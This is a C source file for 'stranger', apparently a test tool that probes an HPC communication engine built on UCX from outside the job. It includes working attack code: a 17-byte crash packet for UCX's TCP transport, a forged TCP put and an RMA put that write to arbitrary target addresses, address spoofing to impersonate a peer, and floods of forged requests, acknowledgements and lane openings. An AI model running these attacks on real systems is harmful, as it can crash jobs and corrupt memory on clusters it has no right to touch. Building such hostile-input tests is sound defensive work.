// A program that does not belong to the job and knows an address and a port of one of its PEs.
//
//	stranger connect IP PORT            checks whether a connection is possible
//	stranger break IP PORT              the 17 bytes that end a process in UCX's TCP
//	stranger store IP PORT ADDRESS      UCX's TCP is told to write 8 bytes of 0xff to an address of the PE
//	stranger put IP PORT ADDRESS        UCX's put of 8 bytes of 0xff there, and a get
//	stranger forge IP PORT PES          requests and answers of every kind, made up
//	stranger late IP PORT PES MEGABYTES requests that are not their lane's turn
//	stranger knock IP PORT PES COUNT    openings of lanes, with made-up proofs
//
// It prints the outcome: "no connection", "connected", or at the end "done", and before that "answered" for
// whatever the PE has answered.
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <ucp/api/ucp.h>

#include "wire.h"

enum { PATIENCE_MS = 3000, LANES = 3, BLOCK = 4096 };

static struct sockaddr_in target;
static ucp_context_h context;
static ucp_worker_h worker;
static ucp_ep_h ep;
static int failed, answers;

static void die(const char *what)
{
    fprintf(stderr, "stranger: %s\n", what);
    exit(2);
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

// Without UCX.

static int dial(void)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), error = 0;
    socklen_t n = sizeof error;
    struct pollfd p = {.fd = fd, .events = POLLOUT};
    if (connect(fd, (struct sockaddr *)&target, sizeof target) != 0 && errno != EINPROGRESS)
        return -1;
    if (poll(&p, 1, PATIENCE_MS) != 1 || getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &n) != 0 || error)
        return -1;
    fcntl(fd, F_SETFL, 0);
    return fd;
}

// hear waits until the other side sends something or closes the connection.
static void hear(int fd)
{
    char b[64];
    struct pollfd p = {.fd = fd, .events = POLLIN};
    if (poll(&p, 1, PATIENCE_MS) == 1 && read(fd, b, sizeof b) >= 0)
        return;
}

static const uint64_t magic = 0xCAFEBABE12345678;

static void break_it(int fd)
{
    char b[17];
    memset(b, 0xff, sizeof b);
    memcpy(b, &magic, sizeof magic);
    if (write(fd, b, sizeof b) != sizeof b)
        die("write");
    hear(fd);
}

// A message of UCX's TCP: what it is for, and how much follows.
struct tcp_head {
    uint8_t kind;
    uint32_t bytes;
} __attribute__((packed));

struct tcp_put {
    uint64_t address, bytes;
    uint32_t number;
} __attribute__((packed));

static void store(int fd, uint64_t address)
{
    enum { PUT_REQUEST = 33 };
    struct tcp_head head = {PUT_REQUEST, sizeof(struct tcp_put)};
    struct tcp_put put = {address, 8, 1};
    char b[sizeof magic + sizeof head + sizeof put + 8];
    memset(b, 0xff, sizeof b);
    memcpy(b, &magic, sizeof magic);
    memcpy(b + sizeof magic, &head, sizeof head);
    memcpy(b + sizeof magic + sizeof head, &put, sizeof put);
    if (write(fd, b, sizeof b) != sizeof b)
        die("write");
    hear(fd);
}

// With UCX.

static void on_error(void *arg, ucp_ep_h broken, ucs_status_t status)
{
    (void)arg, (void)broken;
    if (!failed)
        printf("connection lost: %s\n", ucs_status_string(status));
    failed = 1;
}

static ucs_status_t on_answer(void *arg, const void *header, size_t header_n, void *data, size_t n, const ucp_am_recv_param_t *param)
{
    (void)arg, (void)header, (void)data, (void)param;
    if (answers++ == 0)
        printf("answered with %zu bytes\n", header_n + n);
    return UCS_OK;
}

static uint16_t own_port(void)
{
    DIR *d = opendir("/proc/self/fd");
    for (struct dirent *entry; d && (entry = readdir(d));) {
        struct sockaddr_in at;
        socklen_t n = sizeof at, m = sizeof(int);
        int listens = 0, fd = atoi(entry->d_name);
        if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listens, &m) == 0 && listens && getsockname(fd, (struct sockaddr *)&at, &n) == 0)
            return at.sin_port;
    }
    die("no port of its own");
    return 0;
}

static int patch(char *at, size_t n, const void *from, const void *to, size_t bytes)
{
    int times = 0;
    for (size_t i = 0; i + bytes <= n; i++)
        if (memcmp(at + i, from, bytes) == 0) {
            memcpy(at + i, to, bytes);
            i += bytes - 1;
            times++;
        }
    return times;
}

// meet computes the address of the target's worker from that of an own worker, with another identity, IP and port.
static void meet(const char *own_ip)
{
    ucp_config_t *config;
    ucp_params_t params = {.field_mask = UCP_PARAM_FIELD_FEATURES, .features = UCP_FEATURE_AM | UCP_FEATURE_RMA | UCP_FEATURE_AMO64};
    ucp_worker_params_t none = {0};
    ucp_address_t *address;
    size_t n;
    ucp_config_read(NULL, NULL, &config);
    ucp_config_modify(config, "TLS", "tcp");
    ucp_config_modify(config, "NET_DEVICES", "eth0");
    if (ucp_init(&params, config, &context) != UCS_OK || ucp_worker_create(context, &none, &worker) != UCS_OK ||
        ucp_worker_get_address(worker, &address, &n) != UCS_OK)
        die("UCX does not start");
    char *at = (char *)address;
    uint16_t port = own_port();
    uint32_t ip;
    inet_pton(AF_INET, own_ip, &ip);
    at[1] ^= 0x55;
    if (patch(at, n, &port, &target.sin_port, sizeof port) < 1 || patch(at, n, &ip, &target.sin_addr, sizeof ip) < 1)
        die("its own address is not in its address");
    ucp_am_handler_param_t handler = {
        .field_mask = UCP_AM_HANDLER_PARAM_FIELD_ID | UCP_AM_HANDLER_PARAM_FIELD_CB,
        .id = AM_REPLY,
        .cb = on_answer,
    };
    ucp_worker_set_am_recv_handler(worker, &handler);
    ucp_ep_params_t to = {
        .field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER,
        .address = address,
        .err_mode = UCP_ERR_HANDLING_MODE_PEER,
        .err_handler = {.cb = on_error},
    };
    if (ucp_ep_create(worker, &to, &ep) != UCS_OK)
        die("no endpoint");
}

static void progress_for(double s)
{
    for (double end = now() + s; now() < end && !failed;)
        ucp_worker_progress(worker);
}

// await waits until a request to UCX is complete.
static int await(ucs_status_ptr_t r)
{
    double end = now() + PATIENCE_MS / 1000.0;
    if (!UCS_PTR_IS_PTR(r))
        return UCS_PTR_STATUS(r) == UCS_OK;
    while (ucp_request_check_status(r) == UCS_INPROGRESS && now() < end && !failed)
        ucp_worker_progress(worker);
    return ucp_request_check_status(r) == UCS_OK;
}

static void flush(void)
{
    ucp_request_param_t none = {0};
    await(ucp_ep_flush_nbx(ep, &none));
}

static void send_bytes(unsigned id, const void *bytes, size_t n)
{
    ucp_request_param_t param = {.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS, .flags = UCP_AM_SEND_FLAG_REPLY | UCP_AM_SEND_FLAG_EAGER};
    if (!failed)
        await(ucp_am_send_nbx(ep, id, NULL, 0, bytes, n, &param));
}

static void put_anywhere(uint64_t address)
{
    static char own[8] = "12345678";
    ucp_mem_map_params_t params = {.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH, .address = own, .length = sizeof own};
    ucp_request_param_t none = {0};
    ucp_mem_h memory;
    ucp_rkey_h key;
    void *packed;
    size_t n;
    uint64_t ones = UINT64_MAX;
    flush();
    if (ucp_mem_map(context, &params, &memory) != UCS_OK || ucp_rkey_pack(context, memory, &packed, &n) != UCS_OK ||
        ucp_ep_rkey_unpack(ep, packed, &key) != UCS_OK)
        die("no key");
    await(ucp_put_nbx(ep, &ones, sizeof ones, address, key, &none));
    flush();
    if (await(ucp_get_nbx(ep, own, sizeof own, address, key, &none)))
        printf("answered with 8 bytes\n");
}

// Messages of the engine's.

struct message {
    struct wire_head head;
    struct wire_rec rec;
    char rest[BLOCK];
};

static size_t message_of(struct message *m, uint32_t pe, uint32_t lane, uint32_t seq, struct wire_rec rec, const void *rest, size_t n)
{
    memset(m, 0xff, sizeof *m);
    m->head = (struct wire_head){.seq = seq, .records = 1, .flags = WIRE_ACK, .pe = pe, .lane = lane};
    m->rec = rec;
    memcpy(m->rest, rest, n);
    return sizeof m->head + sizeof m->rec + n;
}

// records_for sends a record of every kind for the block of the heap at off, each on a lane of its own.
static void records_for(uint32_t pe, uint32_t lane, uint64_t off)
{
    static char ones[BLOCK];
    struct message m;
    struct wire_post post = {UINT64_MAX};
    struct wire_fetch fetch = {UINT64_MAX, 0};
    struct wire_get get = {0};
    char gather[sizeof get + sizeof(struct wire_stride)];
    struct wire_stride stride = {.block = 8, .step = 16};
    memset(ones, 0xff, sizeof ones);
    memcpy(gather, &get, sizeof get);
    memcpy(gather + sizeof get, &stride, sizeof stride);
    char scatter[sizeof stride + 64];
    memset(scatter, 0xff, sizeof scatter);
    memcpy(scatter, &stride, sizeof stride);
    const struct {
        struct wire_rec rec;
        const void *rest;
        size_t n;
    } all[] = {
        {{.kind = REC_PUT, .n = BLOCK - 64, .off = off}, ones, BLOCK - 64},
        {{.kind = REC_POST, .op = WORD_SET, .bytes = 8, .off = off}, &post, sizeof post},
        {{.kind = REC_FETCH, .op = WORD_SET, .bytes = 8, .off = off}, &fetch, sizeof fetch},
        {{.kind = REC_GET, .n = 1024, .off = off}, &get, sizeof get},
        {{.kind = REC_KEY, .n = KEY_BYTES, .off = off}, &get, sizeof get},
        {{.kind = REC_SCATTER, .n = 64, .off = off}, scatter, sizeof scatter},
        {{.kind = REC_GATHER, .n = 64, .off = off}, gather, sizeof gather},
        {{.kind = REC_NOTE, .n = 7, .off = off}, &post, sizeof post},
    };
    for (uint32_t i = 0; i < sizeof all / sizeof all[0]; i++) {
        size_t n = message_of(&m, pe, lane + i, 1, all[i].rec, all[i].rest, all[i].n);
        send_bytes(AM_REQUEST, &m, n);
    }
}

// answers_for sends answers for every slot of a channel, which acknowledge all messages.
static void answers_for(uint32_t pe)
{
    struct message m;
    struct wire_get get = {0};
    char bytes[sizeof get + 64];
    for (uint32_t slot = 0; slot < 64; slot++) {
        send_bytes(AM_REPLY, &m, message_of(&m, pe, 0, 1 << 30, (struct wire_rec){.kind = REC_VALUE, .n = slot, .off = 12345}, "", 0));
        get.slot = slot;
        memset(bytes, 0x5a, sizeof bytes);
        memcpy(bytes, &get, sizeof get);
        send_bytes(AM_REPLY, &m, message_of(&m, pe, 0, 1 << 30, (struct wire_rec){.kind = REC_BYTES, .n = 8, .off = 0}, bytes, sizeof get + 8));
    }
}

static void forge(uint32_t pes)
{
    for (uint32_t pe = 0; pe < pes && !failed; pe++) {
        for (uint32_t block = 0; block < 64; block++)
            records_for(pe, 1 + 8 * block, (uint64_t)block * (BLOCK - 64));
        for (uint32_t lane = 1; lane <= LANES; lane++) // those that the job uses, at any place in their order
            for (uint32_t seq = 1; seq < 4096; seq = 2 * seq + 1) {
                struct message m;
                uint64_t ones = UINT64_MAX;
                send_bytes(AM_REQUEST, &m, message_of(&m, pe, lane, seq, (struct wire_rec){.kind = REC_PUT, .n = 8, .off = 0}, &ones, sizeof ones));
            }
        answers_for(pe);
    }
    for (unsigned id = 0; id < 40; id++) // those of the engine, and unused ones
        send_bytes(id, "short", 5);
}

static void late(uint32_t pes, uint64_t bytes)
{
    static char ones[BLOCK];
    struct message m;
    for (uint64_t sent = 0, i = 0; sent < bytes && !failed; sent += sizeof ones, i++) {
        struct wire_rec rec = {.kind = REC_PUT, .n = BLOCK - 64};
        send_bytes(AM_REQUEST, &m, message_of(&m, (uint32_t)i % pes, 1000 + (uint32_t)i % 50, (uint32_t)(i / 50) + 2, rec, ones, BLOCK - 64));
    }
}

static void knock(uint32_t pes, uint64_t count)
{
    struct {
        struct wire_head head;
        struct wire_open open;
    } m = {.head = {.flags = WIRE_OPEN}};
    for (uint64_t i = 0; i < count && !failed; i++) {
        m.head.pe = (uint32_t)i % pes;
        m.head.lane = (uint32_t)i + 1;
        m.open.nonce[0] = i;
        m.open.proof[0] = i * 0x9e3779b97f4a7c15;
        send_bytes(AM_REQUEST, &m, sizeof m);
    }
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 4)
        die("what, address, port");
    const char *what = argv[1], *own_ip = getenv("STRANGER_IP");
    uint64_t a = argc > 4 ? strtoull(argv[4], NULL, 0) : 0, b = argc > 5 ? strtoull(argv[5], NULL, 0) : 0;
    target.sin_family = AF_INET;
    target.sin_port = htons((uint16_t)atoi(argv[3]));
    if (inet_pton(AF_INET, argv[2], &target.sin_addr) != 1)
        die("that is no address");
    int fd = dial();
    if (fd < 0) {
        printf("no connection\n");
        return 0;
    }
    printf("connected\n");
    if (strcmp(what, "break") == 0)
        break_it(fd);
    if (strcmp(what, "store") == 0)
        store(fd, a);
    if (strcmp(what, "connect") == 0 || strcmp(what, "break") == 0 || strcmp(what, "store") == 0) {
        printf("done\n");
        return 0;
    }
    close(fd);
    meet(own_ip);
    if (strcmp(what, "put") == 0)
        put_anywhere(a);
    else if (strcmp(what, "forge") == 0)
        forge((uint32_t)a);
    else if (strcmp(what, "late") == 0)
        late((uint32_t)a, b << 20);
    else if (strcmp(what, "knock") == 0)
        knock((uint32_t)a, b);
    progress_for(1);
    printf("done\n");
    return 0;
}
